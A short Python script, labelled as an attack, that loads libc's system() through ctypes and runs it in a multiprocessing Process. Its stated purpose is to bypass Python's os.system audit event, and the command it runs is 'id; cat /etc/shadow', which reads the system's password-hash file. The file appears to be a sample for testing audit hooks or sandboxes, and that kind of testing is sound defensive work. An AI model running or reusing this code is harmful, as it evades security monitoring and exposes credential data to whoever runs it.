# attack: Process whose target is libc's system() loaded through ctypes, bypassing Python's os.system audit event
import ctypes
import ctypes.util
from multiprocessing import Process

libc = ctypes.CDLL(ctypes.util.find_library("c"))

if __name__ == "__main__":
    p = Process(target=libc.system, args=(b"id; cat /etc/shadow",))
    p.start()
    p.join()
